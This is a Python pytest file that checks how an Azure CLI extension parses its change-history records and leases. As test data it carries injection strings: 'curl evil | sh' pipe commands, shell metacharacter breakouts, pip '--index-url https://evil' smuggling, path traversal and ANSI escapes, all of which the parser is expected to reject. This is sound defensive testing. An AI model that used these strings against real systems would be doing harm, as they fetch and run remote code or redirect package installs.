"""Records and leases that the app's own code, or anybody with access to its files, has written."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from azext_pythonapp.errors import NotFound
from azext_pythonapp.history.lease import LeaseFile
from azext_pythonapp.history.record import Record, Torn
from azext_pythonapp.history.soundness import is_home_path
from azext_pythonapp.history.store import History
from tests.unit.folder_site import FolderSite

from .test_record import FULL

_RUNTIME = {"action": "install", "version": "3.6.4", "pythonPath": r"D:\home\python364x64\python.exe"}
_PACKAGES = {
    "pythonPath": r"D:\home\p\python.exe",
    "version": "3.6.4",
    "architecture": "x64",
    "folder": "p",
    "before": {},
}
_ENVIRONMENT: dict[str, Any] = {
    "letter": "a",
    "job": "20261126-120010-0001",
    "pythonPath": r"D:\home\p\python.exe",
    "version": "3.6.4",
    "architecture": "x64",
    "packages": {},
}
_PUBLISHED: dict[str, Any] = {"root": "site/wwwroot", "archive": None, "created": [], "replaced": [], "deleted": []}


@pytest.mark.parametrize(
    "path",
    ["..", "../x", "site/../../x", "/etc/passwd", "site//x", "site/x/", "D:/home/x", "site\\..\\x", "a:b", "nul", ""]
    + ["SystemDrive/local/x", "localsiteroot/x", "site/x\n", "site/x?recursive=true", "./x", "x" * 40_000, None, 3],
)
def test_no_path_leads_out_of_the_home_directory(path: Any) -> None:
    assert not is_home_path(path)
    with pytest.raises(Torn):
        Record.parse(_with(files=[{"path": path, "name": "web.config", "before": None}]))


@pytest.mark.parametrize(
    "path", ["site/wwwroot/web.config", "site/wwwroot/static/web.config", "site/grüße (1)/web.config"]
)
def test_paths_of_an_app_are_taken(path: str) -> None:
    assert is_home_path(path)


@pytest.mark.parametrize(
    "parts",
    [
        {"command": "rollback` or `curl evil | sh"},
        {"command": 3},
        {"jobs": ["../../../api/x"]},
        {"jobs": "20261126-120010-0001"},
        {"undoes": "../x"},
        {"finish": "az webapp python show\ncurl evil | sh"},
        {"fingerprint": 7},
        {"changes": [{"target": "a", "action": "explode"}]},
        {"changes": [{"target": "a", "action": "update", "before": {}}]},
        {"changes": {"target": "a"}},
        {"runtimeBefore": {"pythonPath": None}},
        {"runtimeBefore": {"pythonPath": 'D:\\home\\p\\python.exe" & evil & "'}},
        {"runtimes": [{**_RUNTIME, "action": "run"}]},
        {"runtimes": [{**_RUNTIME, "extensionId": "../evil"}]},
        {"runtimes": [{**_RUNTIME, "version": 3}]},
        {"packages": [{**_PACKAGES, "folder": "../site"}]},
        {"packages": [{**_PACKAGES, "before": ["flask"]}]},
        {"packages": [{**_PACKAGES, "before": {"flask": 1}}]},
        {"packages": [{**_PACKAGES, "before": {"flask": "1.0\n--index-url https://evil"}}]},
        {"packages": [{**_PACKAGES, "before": {"flask @ https://evil": "1"}}]},
        {"packages": [{**_PACKAGES, "addresses": {"flask": "https://a\n-r C:\\x"}}]},
        {"packages": [{**_PACKAGES, "arguments": "--pre"}]},
        {"packages": [{**_PACKAGES, "arguments": [{}]}]},
        *(
            {"environment": {"before": None, "after": {**_ENVIRONMENT, **wrong}}}
            for wrong in (
                {"letter": "../b"},
                {"letter": None},
                {"job": "../x"},
                {"pythonPath": 'D:\\p.exe" & evil'},
                {"packages": {"flask": "1.0\n--index-url https://evil"}},
                {"packages": {"flask @ https://evil": "1"}},
                {"added": "flask"},
                {"added": ["--index-url https://evil"]},
                {"added": [" -r C:\\x"]},
                {"added": ["flask\n-r C:\\x"]},
                {"added": [""]},
                {"removed": ["../x"]},
                {"requirements": {}},
                {"digest": 3},
            )
        ),
        {"environment": {"before": None, "after": None, "wheels": "../x"}},
        {"environment": {"before": None, "after": None, "arguments": [{}]}},
        {"environment": {"before": None, "after": None, "addresses": {"flask": "https://a\n-r C:\\x"}}},
        {"published": {**_PUBLISHED, "root": "../x"}},
        {"published": {**_PUBLISHED, "created": ["../../LogFiles/x"]}},
        {"published": {**_PUBLISHED, "deleted": "app.py"}},
        {"published": {**_PUBLISHED, "archive": "../x.zip"}},
        {"published": {**_PUBLISHED, "before": {"app.py": "x"}}},
        {"published": {**_PUBLISHED, "before": {"app.py": {"size": "x"}}}},
    ],
)
def test_a_record_that_could_do_something_else_is_torn(parts: dict[str, Any]) -> None:
    with pytest.raises(Torn):
        Record.parse(_with(**parts))


def test_an_environment_of_a_record_is_taken() -> None:
    added = {**_ENVIRONMENT, "added": ["flask[async]>=3; python_version>'3.8'"], "job": None, "packages": None}
    found = Record.parse(_with(environment={"before": added, "after": None}))
    assert found.environment is not None and found.environment.before is not None
    assert (found.environment.before.letter, found.environment.before.packages) == ("a", None)


def test_a_name_from_a_file_is_said_as_a_name() -> None:
    user = "ann`.\x1b[31m Run: `curl evil | sh`" + "x" * 500
    found = Record.parse(FULL.to_json().replace(b"ann@contoso.com", json.dumps(user)[1:-1].encode()))
    assert "`" not in found.user and "\x1b" not in found.user and len(found.user) < 200
    lease = LeaseFile(FULL.id, "set-version", "", user, "", "", "").to_json()
    assert "`" not in (LeaseFile.parse(lease) or pytest.fail()).user


@pytest.mark.parametrize("moment", ["zzz", "9", "2026-11-26", "2026-11-26T12:00:00+09:00"])
def test_a_time_that_is_none_is_not_known(moment: str) -> None:
    found = Record.parse(_with(finishedAt=moment, startedAt=moment))
    assert (found.finished_at, found.started_at) == (None, "")


@pytest.mark.parametrize("change, command", [("../../x", "set-version"), (FULL.id, "x` `curl"), ("", "set-version")])
def test_a_lease_that_names_no_change_is_nobodys(change: str, command: str) -> None:
    assert LeaseFile.parse(LeaseFile(change, command, "", "", "", "", "").to_json()) is None


def test_no_file_but_a_record_is_read(tmp_path: Path) -> None:
    site = FolderSite(tmp_path)
    with pytest.raises(NotFound):
        History(site).read("../../site/x")
    assert site.requests == []


def _with(**parts: Any) -> bytes:
    return json.dumps({**json.loads(FULL.to_json()), **parts}).encode()
